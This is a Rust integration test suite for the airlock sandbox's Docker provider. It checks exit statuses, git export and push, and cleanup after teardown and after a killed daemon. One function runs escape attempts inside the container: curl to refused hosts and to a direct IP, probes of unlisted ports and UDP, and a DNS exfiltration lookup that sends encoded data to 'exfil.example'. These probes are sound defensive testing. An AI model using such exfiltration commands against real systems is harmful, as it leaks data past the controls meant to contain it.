//! `airlock sandbox` with the `docker` provider, driven through the real binary and a real
//! Docker engine: the container (built locally from host files by
//! `fixtures/build_sandbox_image.sh`, no registry) has no network but airlock's capture, so
//! the escape checks of `airlock run` fail the same way inside it (direct IP, an unlisted
//! port, UDP to another port, DNS exfiltration, a refused host); commands stream, and one
//! that cannot start gets a shell's status (127 / 126); the private clone is exported back; git
//! pushes with a surrogate token; teardown and a SIGKILLed daemon leave no container, no
//! directory and no process behind.
//!
//! Needs root and a running Docker engine; without them each test prints why and returns
//! (fails under `AIRLOCK_TEST_REQUIRE`, as in CI: [`crate::support::require`]).

use std::process::Command;
use std::time::Duration;

use crate::support::sandbox;
use crate::support::sandbox::{
    GitSetup, SandboxHome, alive, assert_routed, files_containing, llm_route_flags, status,
    wait_until,
};
use crate::support::{TestPki, Upstream};
use nix::sys::signal::{self, Signal};
use nix::unistd::Pid;
use serde_json::Value;

/// The image the tests run.
const IMAGE: &str = "airlock-test-sandbox:1";
/// Whether Docker can be used here (root, engine answering); builds the test image.
/// Says why not ([`crate::support::skip_or_fail`]).
fn docker_ready(test: &str) -> bool {
    if !nix::unistd::geteuid().is_root() {
        return crate::support::skip_or_fail(&format!(
            "{test}: the docker provider needs root (it enters the container's network \
             namespace): run the tests as root"
        ));
    }
    let answers = Command::new("docker")
        .args(["version", "--format", "{{.Server.Version}}"])
        .output()
        .is_ok_and(|output| output.status.success());
    if !answers {
        return crate::support::skip_or_fail(&format!(
            "{test}: no Docker engine answers here (install docker.io and start dockerd)"
        ));
    }
    // The image is built from the host's busybox, curl and git.
    crate::support::need_all(&["busybox", "curl", "git"]);
    let script = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/build_sandbox_image.sh"
    );
    let built = Command::new("bash")
        .arg(script)
        .output()
        .expect("run the image builder");
    assert!(
        built.status.success(),
        "building {IMAGE} failed: {}",
        String::from_utf8_lossy(&built.stderr)
    );
    true
}

/// Containers labelled for this home's state root.
fn containers_of(home: &SandboxHome) -> Vec<String> {
    let filter = format!("label=airlock.root={}", home.root().display());
    let output = Command::new("docker")
        .args(["ps", "-a", "-q", "--filter", &filter])
        .output()
        .expect("docker ps");
    String::from_utf8_lossy(&output.stdout)
        .lines()
        .map(str::to_owned)
        .collect()
}

fn create(home: &SandboxHome, name: &str, flags: &[String], env: &[(&str, &str)]) {
    let mut args = vec!["create", name, "--provider", "docker", "--image", IMAGE];
    args.extend(flags.iter().map(String::as_str));
    let output = home.run_with_env(&args, env);
    assert_eq!(status(&output), 0, "create {name}: {}", output.stderr);
}

#[test]
fn a_docker_sandbox_streams_refuses_every_escape_and_rm_leaves_nothing() {
    if !docker_ready("a_docker_sandbox_streams_refuses_every_escape") {
        return;
    }
    let real = sandbox::real_secret();
    let pki = TestPki::new();
    let upstream = Upstream::tls(&pki);
    let port = upstream.port();
    let home = SandboxHome::new();
    let flags: Vec<String> = vec![
        "--resolve".into(),
        "allowed.test:127.0.0.1".into(),
        "--upstream-ca".into(),
        pki.upstream_ca_cert.to_string_lossy().into_owned(),
        "--allow".into(),
        format!("allowed.test:{port}"),
        "--secret".into(),
        "API_TOKEN@allowed.test".into(),
        "--memory".into(),
        "256".into(),
        "--pids".into(),
        "64".into(),
    ];
    create(&home, "box", &flags, &[("API_TOKEN", real.as_str())]);
    assert_eq!(containers_of(&home).len(), 1);

    let run = home.exec_json("box", "echo out; echo err >&2; pwd; exit 5");
    assert_eq!(run.stdout, ["out", "/workspace"], "{run:?}");
    assert_eq!(run.stderr, ["err"], "{run:?}");
    assert_eq!(run.report["exit"], 5, "{run:?}");

    assert_unstartable_commands_get_a_shells_status(&home);
    assert_every_escape_is_refused(&home, &upstream, real.as_str());

    // The limits reached the container.
    let inspect = Command::new("docker")
        .args([
            "inspect",
            "--format",
            "{{.HostConfig.Memory}} {{.HostConfig.PidsLimit}} {{.HostConfig.NetworkMode}}",
        ])
        .arg(&containers_of(&home)[0])
        .output()
        .expect("docker inspect");
    assert_eq!(
        String::from_utf8_lossy(&inspect.stdout).trim(),
        format!("{} 64 none", 256 * 1024 * 1024)
    );

    // A wall-clock limit.
    let run = home.exec_json_with("box", &["--timeout", "1"], "sleep 5071 & sleep 5072");
    assert_eq!(run.report["exit"], 124, "{run:?}");
    assert!(wait_until(Duration::from_secs(5), || {
        !sandbox::process_with_marker("sleep 5071")
    }));

    let daemon = home.daemon_pid("box");
    home.must(&["rm", "box"]);
    assert!(containers_of(&home).is_empty(), "a container survived rm");
    assert!(!home.sandbox_dir("box").exists());
    assert!(wait_until(Duration::from_secs(5), || !alive(daemon)));
    assert_eq!(
        files_containing(&home.root(), real.as_str()),
        Vec::<String>::new()
    );
}

/// Commands that cannot be started, and commands exiting 126 or 127 themselves.
fn assert_unstartable_commands_get_a_shells_status(home: &SandboxHome) {
    // A command that cannot be started gets a shell's status, as in the local sandbox and
    // `airlock run`: 127 not found (by name, by path, or its script's interpreter), 126 not
    // executable (no permission, a directory, not a program); a command's own 126 and 127
    // stay what they are.
    let made = home.exec_json(
        "box",
        "printf '#!/no/such/interpreter\\n' > /tmp/orphan-script; printf '\\001\\002junk' > /tmp/junk-binary; chmod +x /tmp/orphan-script /tmp/junk-binary",
    );
    assert_eq!(made.report["exit"], 0, "{made:?}");
    for (argv, expected) in [
        (&["no-such-command-airlock"][..], 127),
        (&["/tmp/orphan-script"][..], 127),
        (&["/tmp/junk-binary"][..], 126),
        (&["/no/such/program"][..], 127),
        (&["/etc/passwd"][..], 126),
        (&["/tmp"][..], 126),
        (&["sh", "-c", "exit 126"][..], 126),
        (
            &["sh", "-c", "echo 'exec: \"x\": not found' >&2; exit 127"][..],
            127,
        ),
    ] {
        let mut args = vec!["exec", "box", "--json", "--"];
        args.extend_from_slice(argv);
        let run = sandbox::parse_json_exec(&home.run(&args));
        assert_eq!(run.report["exit"], expected, "{argv:?}: {run:?}");
        let mut args = vec!["exec", "box", "--"];
        args.extend_from_slice(argv);
        let plain = home.run(&args);
        assert_eq!(status(&plain), expected, "{argv:?}: {}", plain.stderr);
    }
}

/// From inside the container: the allowed host answers with the real key injected
/// outside; a refused host, a direct IP, an unlisted port, UDP to another port and DNS
/// exfiltration go nowhere (and are logged); no engine socket, only `lo`, no real key.
fn assert_every_escape_is_refused(home: &SandboxHome, upstream: &Upstream, real: &str) {
    let port = upstream.port();
    let script = format!(
        "curl -sS --max-time 20 -H \"Authorization: Bearer $API_TOKEN\" https://allowed.test:{port}/echo/docker; echo; \
         curl -sS --max-time 20 https://refused.example/x; echo; \
         curl -sSk --max-time 20 https://203.0.113.7/direct; echo; \
         curl -sS --max-time 5 http://198.51.100.9:8081/ >/dev/null 2>&1 || echo PORT-CLOSED; \
         nslookup -type=txt c2VjcmV0.exfil.example 192.0.2.53 >/dev/null 2>&1; echo DNS-ASKED; \
         nslookup -port=9999 -timeout=2 -retry=1 udp-probe.example 198.51.100.1 >/dev/null 2>&1 || echo UDP-REFUSED; \
         ip -o link | wc -l; ls /var/run/docker.sock 2>/dev/null | wc -l; \
         echo \"$API_TOKEN\"; env | grep -c {real}"
    );
    let run = home.exec_json_with("box", &["--timeout", "100"], &script);
    let out = &run.stdout;
    let allowed: Value = serde_json::from_str(&out[0]).unwrap_or_else(|e| panic!("{e}: {run:?}"));
    assert_eq!(allowed["path"], "/echo/docker", "{run:?}");
    let refused: Value = serde_json::from_str(&out[1]).expect("refusal");
    assert_eq!(refused["reason"], "host_not_allowed", "{run:?}");
    let direct: Value = serde_json::from_str(&out[2]).expect("refusal of a direct IP");
    assert_eq!(direct["host"], "203.0.113.7", "{run:?}");
    assert_eq!(direct["error"], "blocked_by_policy", "{run:?}");
    assert_eq!(
        out[3], "PORT-CLOSED",
        "an unlisted port must not connect: {run:?}"
    );
    assert_eq!(out[4], "DNS-ASKED", "{run:?}");
    assert_eq!(
        out[5], "UDP-REFUSED",
        "UDP to another port goes nowhere: {run:?}"
    );
    assert_eq!(out[6], "1", "only lo inside the container: {run:?}");
    assert_eq!(out[7], "0", "no engine socket inside: {run:?}");
    assert_eq!(out[8].len(), real.len(), "{run:?}");
    assert_ne!(out[8], real);
    assert_eq!(out[9], "0", "{run:?}");
    // The upstream got the real key; it was hit exactly once (the direct IP went nowhere).
    assert_eq!(upstream.hit_count(), 1);
    let hit = upstream.hits().pop().expect("hit");
    assert!(hit.headers.iter().any(|(n, v)| n.eq_ignore_ascii_case("authorization") && v == &format!("Bearer {real}")));
    let audit = home.audit_text("box");
    for expected in [
        "\"host\":\"refused.example\"",
        "\"host\":\"203.0.113.7\"",
        "c2vjcmv0.exfil.example",
    ] {
        assert!(
            audit.contains(expected),
            "{expected} not in the audit log:\n{audit}"
        );
    }
    assert!(!audit.contains(real));
    assert!(
        !audit.contains("udp-probe"),
        "UDP to port 9999 reached a server:\n{audit}"
    );
}

#[test]
fn a_docker_sandbox_clones_exports_pushes_and_survives_a_killed_daemon() {
    if !docker_ready("a_docker_sandbox_clones_exports_pushes") {
        return;
    }
    let real = sandbox::real_secret();
    let pki = TestPki::new();
    let home = SandboxHome::new();
    let git = GitSetup::new(&home, &pki, &real);
    let (repos, source, server) = (&git.repos, &git.source, &git.server);
    let flags = git.repo_flags(&[]);
    create(&home, "dock", &flags, &[("GIT_TOKEN", real.as_str())]);
    let script = format!(
        "pwd; git rev-parse --abbrev-ref HEAD; echo change > agent.txt && git add agent.txt && \
         git -c user.name=agent -c user.email=agent@example.invalid commit -q -m 'docker change' && echo COMMITTED; \
         git push -q https://other.test:{port}/repo.git HEAD:refs/heads/from-docker 2>&1 && echo PUSHED",
        port = server.port
    );
    let run = home.exec_json_with("dock", &["--timeout", "100"], &script);
    assert_eq!(
        run.stdout,
        [
            "/workspace/airlock-dock",
            "airlock/dock",
            "COMMITTED",
            "PUSHED"
        ],
        "{run:?}"
    );
    assert_eq!(
        GitSetup::subject(&repos.join("repo.git"), "from-docker"),
        "docker change"
    );
    home.must(&["export", "dock"]);
    assert_eq!(
        GitSetup::subject(&source.join(".git"), "airlock/dock"),
        "docker change"
    );
    assert!(!source.join("agent.txt").exists());

    // A repository named by URL is cloned from inside the container, through the proxy.
    let mut remote_flags = git.flags.clone();
    remote_flags.extend([
        "--repo".into(),
        format!("https://other.test:{}/repo.git", server.port),
    ]);
    create(
        &home,
        "remote",
        &remote_flags,
        &[("GIT_TOKEN", real.as_str())],
    );
    let run = home.exec_json("remote", "git log -1 --format=%s from-docker; pwd");
    assert_eq!(
        run.stdout,
        ["docker change", "/workspace/airlock-remote"],
        "{run:?}"
    );
    home.must(&["rm", "remote"]);

    // kill -9 of an `exec` CLI: the sandbox goes on.
    let mut child = home
        .command(&["exec", "dock", "--", "sleep", "6161"])
        .spawn()
        .expect("exec sleep");
    assert!(wait_until(Duration::from_secs(20), || {
        sandbox::process_with_marker("sleep\x006161")
    }));
    child.kill().expect("kill -9 the exec CLI");
    let _ = child.wait();
    let run = home.exec_json("dock", "echo still-here");
    assert_eq!(run.stdout, ["still-here"], "{run:?}");

    // kill -9 of the daemon: the next command finds the orphaned container and removes it.
    let daemon = home.daemon_pid("dock");
    signal::kill(Pid::from_raw(daemon), Signal::SIGKILL).expect("kill -9 the daemon");
    assert!(wait_until(Duration::from_secs(10), || !alive(daemon)));
    assert_eq!(
        containers_of(&home).len(),
        1,
        "the container outlives a killed daemon"
    );
    let listed = home.run(&["ls", "--json"]);
    assert_eq!(status(&listed), 0, "{}", listed.stderr);
    assert!(
        listed
            .stderr
            .contains("removed the orphaned container of sandbox dock"),
        "{}",
        listed.stderr
    );
    assert!(containers_of(&home).is_empty());
    let line: Value = serde_json::from_slice(&listed.stdout).expect("ls json");
    assert_eq!(line["status"], "dead", "{line}");
    home.must(&["rm", "dock"]);
    assert!(!home.sandbox_dir("dock").exists());
    assert!(
        wait_until(Duration::from_secs(10), || !sandbox::process_with_marker(
            "sleep\x006161"
        )),
        "a command outlived its container"
    );
    assert_eq!(
        files_containing(&home.root(), real.as_str()),
        Vec::<String>::new()
    );
}

#[test]
fn an_llm_route_answers_inside_a_docker_sandbox_with_the_key_injected_outside() {
    if !docker_ready("an_llm_route_answers_inside_a_docker_sandbox") {
        return;
    }
    let real = sandbox::real_secret();
    let pki = TestPki::new();
    let upstream = Upstream::tls(&pki);
    let home = SandboxHome::new();
    let flags = llm_route_flags(&home, upstream.port(), &pki.upstream_ca_cert);
    create(&home, "llm", &flags, &[("LLM_KEY", real.as_str())]);
    let run = home.exec_json(
        "llm",
        "curl -sS --max-time 20 -H 'Authorization: Bearer agent-chosen-key' \
         http://airlock.internal/llm/fake/models; echo",
    );
    let hit = upstream.hits().pop().expect("the upstream was reached");
    assert_routed(&run, &hit, "/api/v1/models", real.as_str());
    home.must(&["rm", "llm"]);
    assert!(containers_of(&home).is_empty());
}
